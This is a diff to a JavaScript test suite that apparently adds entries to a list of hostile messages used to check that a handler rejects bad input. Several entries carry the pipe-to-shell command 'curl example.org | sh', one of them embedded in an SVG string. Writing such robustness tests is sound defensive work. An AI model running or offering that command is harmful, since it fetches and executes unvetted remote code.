@@ -286,6 +286,8 @@ function hostileMessages({ uri, version }) {
     'a command for the clipboard': { kind: 'copy', text: 'curl example.org | sh\n' },
     'a long text for the clipboard': { kind: 'copy', text: 'a/'.repeat(1 << 20) },
     'no text for the clipboard': { kind: 'copy', text: { toString: 'x' } },
+    'a picture that nobody asked for': { kind: 'picture', svg: '<svg/>\ncurl example.org | sh\n' },
+    'a file that nobody asked for': { kind: 'picture', png: 'iVBORw0KGgoAAAANSUhEUg==' },
     // The title
     'a path that is none': { kind: 'path', game: 'x', path: 'HOSTILE' },
     'a path of numbers': { kind: 'path', game: 0, path: [1, null, { toString: 'HOSTILE' }] },
